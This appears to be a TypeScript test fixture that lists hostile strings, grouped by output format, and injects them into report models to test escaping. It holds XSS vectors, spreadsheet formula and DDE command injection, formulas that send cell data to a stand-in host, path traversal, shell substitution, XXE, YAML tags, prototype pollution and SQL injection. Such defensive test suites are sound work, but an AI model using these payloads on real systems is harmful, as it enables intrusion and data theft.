/**
 * Text that strangers have written into names, titles, tags and policies to break out of what
 * shows it, by the format it is aimed at. Every format has to survive all of it: a formula is
 * harmless in a page until somebody copies the table into a spreadsheet.
 */
const long = 40_000;

const html = {
  'a script': '<script>globalThis.pwned = 1</script>',
  'an end of a script': '</script><script>globalThis.pwned = 1</script>',
  'an end of a script, oddly spelt': '</ScRiPt\t\n foo><img src=x onerror=globalThis.pwned=1>',
  'the double escape of scripts': '<!--<script>',
  'an end of a comment': '--><img src=x onerror=globalThis.pwned=1><!--',
  'an end of a comment, the other': '--!><img src=x onerror=globalThis.pwned=1>',
  'an end of a style': '</style><img src=x onerror=globalThis.pwned=1>',
  'an end of a title': '</title></textarea></noscript></template><svg onload=globalThis.pwned=1>',
  'an image': '<img src=x onerror=globalThis.pwned=1>',
  'an image, not ended': '<img src=x onerror=globalThis.pwned=1 //',
  'an image from elsewhere': '<img src="http://192.0.2.1/seen.png">',
  'a vector image': '<svg><g/onload=globalThis.pwned=1//<p>',
  'an animation': '<svg><animate onbegin=globalThis.pwned=1 attributeName=x dur=1s>',
  'a frame': '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  'a base': '<base href="http://192.0.2.1/">',
  'a refresh': '<meta http-equiv="refresh" content="0;url=http://192.0.2.1/">',
  'a style sheet': '<link rel=stylesheet href="http://192.0.2.1/seen.css">',
  'a form': '<form action="http://192.0.2.1/"><input name=token autofocus onfocus=pwned=1>',
  'a way out of mathematics': '<math><mtext><table><mglyph><style><img src=x onerror=pwned=1>',
  'an end of an attribute': '" autofocus onfocus="globalThis.pwned=1" x="',
  'an end of an attribute with one quote': "' autofocus onfocus='globalThis.pwned=1' x='",
  'an end of an attribute with a back-quote': '` onmouseover=globalThis.pwned=1 x=`',
  'an end of an attribute without quotes': 'x onmouseover=globalThis.pwned=1 style=width:9999px',
  'an end of a string': '\';globalThis.pwned=1;//";globalThis.pwned=1;//`;globalThis.pwned=1;//',
  'an end of a string, escaped': "\\';globalThis.pwned=1;//",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what a template would fill in
  'a template': '${globalThis.pwned=1}{{constructor.constructor("globalThis.pwned=1")()}}<%=1%>',
  'line separators': 'a\u2028globalThis.pwned=1\u2029b',
  'an address of a script': 'javascript:globalThis.pwned=1',
  'an address of a script, hidden': '\u0001java\tscr\nipt:globalThis.pwned=1',
  'an address of data': 'data:text/html,<script>globalThis.pwned=1</script>',
  'a rule of a style': '}*{background:url(http://192.0.2.1/seen)}@import "http://192.0.2.1/";',
  'references to characters':
    '&lt;script&gt;globalThis.pwned=1&lt;/script&gt;&#60;img&#62;&amp;lt;',
  'an address of this page': 'x#/control/AC-01&q=<img src=x onerror=pwned=1>?a=b&c=%3Cscript%3E',
  'the name of a global': 'document',
};

const spreadsheet = {
  'a formula': '=1+1',
  'a command': "=cmd|'/C calc'!A0",
  'a command behind plus': "+cmd|'/C calc'!A0",
  'a command behind minus': "-2+3+cmd|'/C calc'!A0",
  'a command behind at': "@SUM(1+1)*cmd|'/C calc'!A0",
  'data of another program': '=DDE("cmd";"/C calc";"!A0")',
  'data of another program, named': "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe'!A0",
  'a link': '=HYPERLINK("http://192.0.2.1/?"&A1&A2,"Error: click here")',
  'a picture': '=IMAGE("http://192.0.2.1/seen.png")',
  'a service': '=WEBSERVICE("http://192.0.2.1/?"&A1)',
  'an import': '=IMPORTXML(CONCAT("http://192.0.2.1/?v=",A1),"//a")',
  'a file': "='file:///etc/passwd'#$passwd.A1",
  'a formula behind a tab': '\t=1+1',
  'a formula behind a carriage return': '\r=1+1',
  'a formula behind a line feed': '\n=1+1',
  'a formula behind spaces': '   =1+1',
  'a formula behind a space that does not break': '\u00a0=1+1',
  'a formula behind an ideographic space': '\u3000=1+1',
  'a formula behind a mark of byte order': '\ufeff=1+1',
  'a formula behind a space of no width': '\u200b=1+1',
  'a formula behind NUL': '\0=1+1',
  'a formula behind a quote': '"=1+1',
  'a formula behind an apostrophe': "'=1+1",
  'a formula in quotes': '"=1+1"',
  'a formula in the next cell': 'x,=1+1',
  'a formula in the next cell, by a semicolon': 'x;=1+1;y',
  'a formula in the next cell, by a tab': 'x\t=1+1',
  'a formula in the next cell, by a bar': 'x|=1+1',
  'a formula in the next row': 'x\r\n=1+1,y',
  'a formula in the next row, by a line feed': 'x\n=1+1',
  'a formula in the next row, by a carriage return': 'x\r=1+1',
  'a formula after an end of quotes': 'x","=1+1","y',
  'a formula after an end of a row': 'x"\r\n"=1+1',
  'full-width equals': '＝1+1',
  'full-width plus': '＋1+1',
  'full-width minus': '－1+1',
  'full-width at': '＠SUM(1)',
  'small equals': '\ufe661+1',
  'a minus sign': '\u22121+1',
  'an array formula': '{=1+1}',
  'a macro of old': '=EXEC("calc")',
  'a percent': '%0A=1+1',
  'a separator': 'sep=;',
  'a symbolic link file': 'ID;PWXL;N;E',
  'a number that loses digits': '12345678901234567890',
  'a number with zeros before': '000123456789',
  'a number with an exponent': '1E5',
  'a number that is negative': '-1',
  'what looks like a date': '3-1',
  'what looks like a truth': 'TRUE',
  'an error of a cell': '#REF!',
  'an escape of a workbook': '_x000D_=1+1_x0041_',
  'more than a cell holds': 'x'.repeat(long),
  'more than a cell holds, in pairs': `x${'\u{1f600}'.repeat(long / 2)}`,
  'more lines than a cell holds': '\n'.repeat(300),
};

const path = {
  'the folder above': '../../../../tmp/pwned',
  'the folder above, of Windows': '..\\..\\..\\pwned',
  'the folder above, hidden': '....//....//pwned',
  'the folder above, encoded': '%2e%2e%2fpwned',
  'the folder above, full-width': '．．／pwned',
  'just the folder above': '..',
  'just this folder': '.',
  'nothing but dots': '...',
  'a path from the root': '/etc/passwd',
  'a path of a drive': 'C:\\Windows\\win.ini',
  'a path of a drive, relative': 'C:pwned',
  'a path of a share': '\\\\192.0.2.1\\share\\pwned',
  'a path of devices': '\\\\.\\PhysicalDrive0',
  'a home': '~/.ssh/authorized_keys',
  'an address of a file': 'file:///etc/passwd',
  'a device': 'CON',
  'a device with an ending': 'nul.txt',
  'a device with a number': 'com1',
  'a device with a number raised': 'LPT¹.csv',
  'another stream': 'report.html:hidden:$DATA',
  'a dot at the end': 'name. . .',
  'a space before and behind': ' name ',
  'an option': '-rf',
  'a long option': '--checkpoint-action=exec=sh',
  'a shell': '$(touch /tmp/pwned)`touch /tmp/pwned`;touch /tmp/pwned|&& touch /tmp/pwned',
  'a wildcard': '*?[a-z]',
  'a line of sums':
    'x\n0000000000000000000000000000000000000000000000000000000000000000  README.txt',
  'a hidden file': '.htaccess',
  'a file of the archive': 'SHA256SUMS',
  'a file of the archive in other letters': 'readme.TXT',
  'composed letters': 'caf\u00e9',
  'the same letters, decomposed': 'cafe\u0301',
  'NUL in a name': 'report.html\0.png',
  'a name too long': 'a'.repeat(300),
  'a path too deep': 'a/'.repeat(2_100),
  'a letter of four bytes, often': '\u{1f600}'.repeat(100),
  'a turn of direction': 'report\u202elmth.exe',
  'an isolate of direction': '\u2067report\u2066exe\u2069',
};

const terminal = {
  colour: '\u001b[31mred\u001b[0m',
  'a cleared screen': '\u001b[2J\u001b[H',
  'a line written over': 'FAIL\r\u001b[2KPASS',
  backspaces: 'fail\b\b\b\bpass',
  'a title of a window': '\u001b]0;pwned\u0007',
  'a link of a terminal': '\u001b]8;;http://192.0.2.1/\u001b\\click\u001b]8;;\u001b\\',
  'a clipboard': '\u001b]52;c;cHduZWQ=\u0007',
  'a question that is answered': '\u001b[6n\u001b[c\u001bP$q"p\u001b\\',
  'a control sequence of eight bits': '\u009b31mred\u009d0;pwned\u009c',
  'a bell': '\u0007',
  'DEL and the upper controls': '\u007f\u0080\u0085\u009f',
  'an escape at the end': 'x\u001b',
  'a command of a build': '::set-output name=x::y\n::error file=x::pwned\n##[command]pwned',
  'a command of a build, in the middle': '%0A::add-mask::a',
};

const markdown = {
  'a link of Markdown': '[click](http://192.0.2.1/)',
  'a link to a script': '[click](javascript:globalThis.pwned=1)',
  'an end of a link': '](http://192.0.2.1/)[',
  'an image of Markdown': '![seen](http://192.0.2.1/seen.png)',
  'a link by reference': '[click][x]\n\n[x]: http://192.0.2.1/',
  'a footnote': '[^1]\n\n[^1]: pwned',
  'an automatic link': '<http://192.0.2.1/>',
  'a bare address': 'http://192.0.2.1/ https://example.com www.example.com',
  'a bare address of mail': 'root@example.com mailto:root@example.com',
  'a mention': '@octocat @example/team',
  'a reference to an issue':
    '#1 GH-1 example/repository#1 0123456789abcdef0123456789abcdef01234567',
  'an order to close': 'fixes #1',
  'HTML of Markdown': '<details open><summary>pwned</summary><b>bold',
  'a comment of HTML': '<!-- hidden',
  'a cell of a table': 'a | b | c',
  'a row of a table': 'a |\n| --- | --- |\n| pwned | pwned |',
  'an escaped bar': 'a \\| b \\\\| c',
  'a code span': '`code` ``code`` ```',
  'an end of a code span': '`` ` ``<b>bold</b>`',
  'a fence': '```\npwned\n```',
  'a fence of tildes': '~~~\npwned\n~~~',
  'a diagram': '```mermaid\ngraph TD; A-->B; click A "http://192.0.2.1/"\n```',
  'a heading': '# PASS',
  'a heading by underline': 'PASS\n====',
  'a list': '- a\n1. b\n* c\n+ d\n- [x] done',
  'a quotation': '> quoted\n> [!WARNING]\n> pwned',
  'a rule': '***\n---\n___',
  'an indented block': '\n\n    code\n\tcode',
  emphasis: '*a* **b** _c_ __d__ ~~e~~ ***f***',
  mathematics: '$\\href{http://192.0.2.1/}{x}$ $$x$$',
  'a picture of a word': ':tada: :+1:',
  'a break of a line': 'a  \nb\\\nc',
  'two breaks of lines': 'a\n\nb\r\n\r\nc',
  'a front matter': '---\ntitle: pwned\n---',
  'references to characters in Markdown':
    '&#91;click&#93;&lpar;http://192.0.2.1/&rpar;&nbsp;&copy;',
  'backslashes at the end': 'a\\',
  'a colour': '`#ff0000`',
};

const xml = {
  'a bomb': '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]><x>&b;&b;&b;</x>',
  'an entity from outside': '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
  'an entity that is not': '&pwned;',
  'an end of CDATA': ']]><failure message="pwned"/><![CDATA[',
  'an end of a comment of XML': '--><failure/><!--',
  'an instruction': '?><?xml-stylesheet href="http://192.0.2.1/x.xsl"?>',
  'an end of an element': '</testcase><testcase name="pwned"/><testcase>',
  'an inclusion':
    '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>',
  'an end of a cell': '</t></is></c><c r="A1"><f>1+1</f><v>2</v></c><c t="inlineStr"><is><t>',
  'references to characters that XML forbids': '&#0;&#8;&#x1b;&#xfffe;',
  'every control':
    '\0\u0001\u0002\u0003\u0004\u0005\u0006\u0007\b\t\n\u000b\f\r\u000e\u000f\u0010\u0011\u0012\u0013\u0014\u0015\u0016\u0017\u0018\u0019\u001a\u001b\u001c\u001d\u001e\u001f',
  'half of a pair, the first': 'a\ud800b',
  'half of a pair, the second': 'a\udc00b',
  'a pair the wrong way round': '\ude00\ud83d',
  'half of a pair at the end': 'a\ud83d',
  noncharacters: '\ufffe\uffff\ufdd0\u{1fffe}\u{10ffff}',
  'a mark of byte order': '\ufeffa\ufeff',
  'many marks on one letter': `Z${'\u0301\u0489'.repeat(200)}`,
  'letters that look like others': 'р\u0430ss \u0399\u217c',
  'nothing that is seen': '\u200b\u200c\u200d\u2060\u00ad\u034f\u{e0041}',
};

const data = {
  'aliases of YAML': 'a: &a [x,x]\nb: &b [*a,*a]\nc: &c [*b,*b]\nd: [*c,*c]',
  'a tag of YAML': '!!js/function "function () { pwned = 1 }"',
  'a document of YAML': '---\n- pwned\n...\n%YAML 1.2',
  'a key of YAML': 'a: b\n? c\n: d # e',
  'a merge of YAML': '<<: *a',
  'a truth of YAML': 'no',
  'a null of YAML': '~',
  'a prototype': '__proto__',
  'a prototype in JSON': '{"__proto__":{"pwned":1},"constructor":{"prototype":{"pwned":1}}}',
  'a constructor': 'constructor',
  'a property of all objects': 'hasOwnProperty',
  'a promise': 'then',
  'a way to write JSON': 'toJSON',
  'an end of a string of JSON': '","status":"pass","x":"',
  'an escape of JSON': '\\u0022\\u003cscript\\u003e\\',
  'a replacement': "$& $1 $` $' $$ $<name>",
  'a format': '%s%n%d%x {0} {} %(name)s',
  'a query': "'; DROP TABLE results; --",
  'an address of JSON': '/a~1b/~0',
  nothing: '',
  'a space': ' ',
  'white space only': ' \t\r\n ',
};

/** What each payload tries, and the payload. */
export const hostile: readonly (readonly [name: string, text: string])[] = [
  html,
  spreadsheet,
  path,
  terminal,
  markdown,
  xml,
  data,
].flatMap((payloads) => Object.entries(payloads));

/** Words that the program chooses: no stranger has a say in these. */
const words = new Set(
  `run collect backfill state event continuous daily weekly monthly quarterly annual per-event
  critical high medium low
  complete deviation waived gap none later pass fail not_applicable not_tested error no partly
  wholly failed created happened mended deleted open late control parameters program
  configuration waivers expired unmatched`
    .split(/\s+/)
    .concat(
      ...['operated', 'operated with deviations', 'insufficient evidence', 'did not operate'],
      ...['no run', 'not collected', 'not judged', 'not told', 'out of reach', 'no source'],
      ...['clock in doubt', 'entered the population', 'left the population', 'first seen'],
      ...['in time', 'perhaps late', 'not applicable', 'in force', 'not yet in force'],
      'tickmark-report/1',
    ),
);

/** A day, a time, a digest, a run: what the program writes itself. */
const made = /^(\d{4}-\d\d-\d\d(T[\d:.]+Z)?|[0-9a-f]{40}|[0-9a-f]{64}|\d{8}T\d{6}Z-[0-9a-f]{6})$/;

/** What the schemas only take in harmless letters, and by what things are found again. */
const ids = new Set(['id', 'test', 'control', 'controls', 'timezone', 'dataset']);

/** Objects of which the keys come from outside too. */
const open = new Set(['criteria', 'parameters', 'fields', 'original', 'untold']);

/** A model with the payload in place of every text that comes from outside. */
export function poisoned<Model>(model: Model, payload: string): Model {
  const poison = (value: unknown, key: string): unknown => {
    if (typeof value === 'string') {
      return ids.has(key) || words.has(value) || made.test(value) ? value : payload;
    }
    if (Array.isArray(value)) return value.map((each) => poison(each, key));
    if (typeof value !== 'object' || value === null) return value;
    const entries = Object.entries(value).map(([name, each]) => [name, poison(each, name)]);
    if (open.has(key)) entries.push([payload, [payload]]);
    return Object.fromEntries(entries);
  };
  return poison(model, '') as Model;
}
